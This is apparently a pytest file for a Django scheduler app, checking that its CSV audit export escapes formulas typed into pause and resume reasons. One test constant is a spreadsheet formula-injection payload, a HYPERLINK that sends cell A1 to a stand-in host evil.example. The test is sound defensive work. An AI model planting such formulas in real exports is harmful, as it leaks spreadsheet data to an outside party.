"""``export_audit --format csv`` of reasons an operator typed: a formula is written as text."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command

from scheduler_app import services

pytestmark = pytest.mark.django_db

TYPED = '=HYPERLINK("https://evil.example/?"&A1,"open me")'


@pytest.fixture(autouse=True)
def demo_tasks_allowed(settings: Any) -> None:
    settings.SCHEDULER_ALLOWED_TASKS = ("demo.*",)


def test_a_typed_formula_in_a_reason_is_exported_as_text() -> None:
    ops = User.objects.create_superuser("@ops", "ops@example.com", "pw")
    schedule = services.create_schedule(task="demo.ping", kind="cron", rule="0 3 * * *")
    services.pause_schedule(schedule.pk, user=ops, note=TYPED)
    services.resume_schedule(schedule.pk, user=ops, note="-1+2")
    out = io.StringIO()
    call_command("export_audit", "--format", "csv", stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [(row["action"], row["by"], row["reason"]) for row in rows[1:]] == [
        ("paused", "'@ops", "'" + TYPED),
        ("resumed", "'@ops", "'-1+2"),
    ]
    assert rows[1]["version"] == "1"
